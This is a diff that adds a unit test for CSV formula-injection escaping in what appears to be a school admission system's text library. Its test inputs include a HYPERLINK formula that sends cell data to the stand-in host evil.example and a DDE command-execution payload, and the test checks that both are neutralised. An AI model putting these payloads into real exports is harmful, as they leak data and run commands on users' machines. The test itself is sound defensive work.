@@ -95,5 +95,18 @@ TEST(Csv, WriterRoundTrips) {
   }
 }
 
+TEST(Csv, AFieldASpreadsheetWouldRunAsAFormulaIsWrittenAsText) {
+  // Names a school's admin system may hold, written into pupils.csv: each must open as text.
+  EXPECT_EQ(CsvLine({"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")"}, ';'),
+            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Klik\"\")\"\r\n");
+  EXPECT_EQ(CsvLine({"+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", "\tx", "\rx"}, ','),
+            "'+cmd|' /C calc'!A0,'@SUM(A1),'-2+3,'\tx,\"'\rx\"\r\n");
+  // Numbers stay numbers, and text that merely contains those characters stays as it is.
+  EXPECT_EQ(CsvLine({"-3", "4.5", "2,0", "Anne-Marie", "a=b", "-"}, ';'), "-3;4.5;2,0;Anne-Marie;a=b;'-\r\n");
+  auto table = ParseCsv(CsvLine({"navn"}, ';') + CsvLine({"=1+1"}, ';'));
+  ASSERT_TRUE(table);
+  EXPECT_EQ(table->rows[0].fields[0], "'=1+1");
+}
+
 }  // namespace
 }  // namespace optagelse::text
